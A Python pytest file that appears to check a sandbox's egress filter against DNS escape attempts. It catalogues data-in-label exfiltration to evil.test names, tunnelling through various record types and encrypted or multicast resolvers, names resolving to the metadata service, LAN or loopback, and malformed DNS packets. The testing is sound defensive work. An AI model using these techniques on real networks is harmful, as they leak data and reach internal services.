"""Family C: questions to nameservers, and names whose addresses are not what a name may open."""

# ruff: noqa: E501  # an attempt is a line of its table

from __future__ import annotations

from typing import TYPE_CHECKING, Final

import pytest

from tests.range.attempt import Attempt, make
from tests.range.world import EVIL, GOOD

if TYPE_CHECKING:
    from tests.range.field import Field

D403: Final = ("403",)
ANSWERED: Final = ("code 0", "code 3", "code 5")
TWO_QUESTIONS: Final = "b'\\0\\7\\1\\0\\0\\2\\0\\0\\0\\0\\0\\0' + 2 * b'\\4evil\\4test\\0\\0\\1\\0\\1'"
LOOPING_NAME: Final = "b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1'"


def asks(kind: int, name: str, server: str = "9.9.9.9") -> Attempt:
    """An attempt to put a question of this type about a denied name to a nameserver of one's own."""
    return Attempt(f"dns({server!r}, {name!r}, {kind})", f"dns {name}", ANSWERED, name, is_wide=False)


def lands(name: str, goal: str, answers: tuple[str, ...] = D403) -> Attempt:
    """An attempt to get where no name may lead by a name that is allowed."""
    code = f"http('{name}.allowed.test', 80)"
    return Attempt(code, goal, answers, f"{name}.allowed.test", permitted=(f"dns {name}.allowed.test",))


ATTEMPTS: Final = {
    "C01 data in the labels of a name": asks(1, "73656372.evil.test"),
    "C03 a question for text": asks(16, "text.evil.test"),
    "C03 a question for nothing": asks(10, "null.evil.test"),
    "C03 a question for mail": asks(15, "mail.evil.test"),
    "C03 a question for a service": asks(33, "srv.evil.test"),
    "C03 a question for another name": asks(5, "alias.evil.test"),
    "C03 a question for everything": asks(255, "any.evil.test"),
    "C03 a question for keys": asks(65, "https.evil.test"),
    "C04 a question over TCP": Attempt("dns('8.8.8.8', 'tcp.evil.test', 1, 'tcp')", "tcp 8.8.8.8:53", ANSWERED, "tcp.evil.test"),
    "C04 a transfer of a zone": Attempt("dns('8.8.8.8', 'axfr.evil.test', 252, 'tcp')", "tcp 8.8.8.8:53", ANSWERED, "axfr.evil.test"),
    "C05 a question to the attacker's server": asks(1, "direct.evil.test", EVIL),
    "C06 a question over TLS": Attempt("tls('9.9.9.9', 853, 'resolver.evil.test')", "tcp 9.9.9.9:853", ("403", "reset"), "9.9.9.9", is_wide=False),
    "C06 a question over QUIC": Attempt("udp('9.9.9.9', 853)", "udp 9.9.9.9:853", ("sent", "refused"), '"dropped"'),
    "C07 a question over HTTPS": Attempt("tls('1.1.1.1', 443, 'one.resolver.test')", "tcp 1.1.1.1:443", D403, "1.1.1.1", is_wide=False),
    "C07 a question over HTTPS by name": Attempt("tls('one.resolver.test', 443, 'one.resolver.test')", f"tcp {EVIL}:443", D403, "one.resolver.test", is_wide=False),
    "C08 a question to everybody on the link": Attempt("udp('224.0.0.251', 5353)", "udp 224.0.0.251:5353", ("sent", "refused"), '"dropped"'),
    "C08 a question to everybody, the other way": Attempt("udp('224.0.0.252', 5355)", "udp 224.0.0.252:5355", ("sent", "refused"), '"dropped"'),
    "C08 a question to the neighbours": Attempt("udp('192.168.77.255', 137)", "udp 192.168.77.255:137", ("sent", "refused"), '"dropped"'),
    "C10 a name of the metadata service": lands("metadata", "tcp 169.254.169.254:80"),
    "C10 a name in the LAN": lands("lan", "tcp 192.168.77.9:80"),
    "C10 a name of the host's loopback": lands("loop", "house tcp 80"),
    "C10 a name of no host": lands("zero", "house tcp 80"),
    "C10 a name of the host's own address": lands("own", "house tcp 80"),
    "C11 one address of the world and one of the LAN": lands("mixed", "tcp "),
    "C12 a mapped address": lands("mapped", "tcp 192.168.77.9:80"),
    "C12 an address of a translator": lands("nat64", "tcp 64:ff9b::a9fe:a9fe:80"),
    "C12 an address of a tunnel": lands("sixtofour", "tcp 2002:c0a8:4d09::1:80"),
    "C16 the address of an allowed name": Attempt(f"tls('{GOOD}', 443, 'good.test')", f"tcp {GOOD}:443", D403, GOOD, is_wide=False),
    "C18 another tenant of an allowed address": Attempt("tls('good.test', 443, 'evil.test')", f"tcp {GOOD}:443", D403, "evil.test"),
    "C20 two questions at once": Attempt(f"dns('9.9.9.9', '', wire={TWO_QUESTIONS})", "dns ", ("code 1", "timeout"), "malformed"),
    "C20 a name that points to itself": Attempt(f"dns('9.9.9.9', '', wire={LOOPING_NAME})", "dns ", ("code 1", "timeout"), "malformed", control="dns('9.9.9.9', 'x.test')"),
    "C21 a question for the root": Attempt("dns('9.9.9.9', '', 2)", "dns ", ("code 5",), "malformed"),
    "C23 a question backwards": Attempt("dns('9.9.9.9', '9.77.168.192.in-addr.arpa', 12)", "dns 9.77.168.192", ("code 3",), "in-addr.arpa"),
    "C30 a question to a root server": asks(1, "root.evil.test", "198.41.0.4"),
}  # fmt: skip


@pytest.mark.parametrize("attempt", ATTEMPTS.values(), ids=ATTEMPTS)
def test_a_question_tells_nobody(field: Field, attempt: Attempt) -> None:
    """No question about a denied name leaves, whoever is asked; no name opens an address that names do not open."""
    make(field, attempt)
